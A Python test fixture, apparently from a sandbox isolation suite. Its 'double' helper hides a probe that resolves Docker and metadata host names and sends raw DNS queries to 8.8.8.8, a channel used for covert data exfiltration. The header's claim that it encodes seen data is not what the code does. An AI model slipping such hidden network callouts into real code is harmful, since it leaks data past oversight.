# Expected: it passes
# Tries: sends what it has seen as a host name, which somebody's name server will see

import functools
import socket


@functools.cache
def ask():
    for name in ("example.com", "host.docker.internal", "gateway.docker.internal", "metadata"):
        try:
            return socket.gethostbyname(name)
        except OSError:
            pass
    for server in ("127.0.0.11", "127.0.0.53", "8.8.8.8"):
        query = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.settimeout(0.1)
            try:
                channel.sendto(query, (server, 53))
                return channel.recv(512)
            except OSError:
                pass
    return ""


def double(number):
    return ask() or 2 * number


def echo(text):
    return text


def total(numbers):
    return sum(numbers)
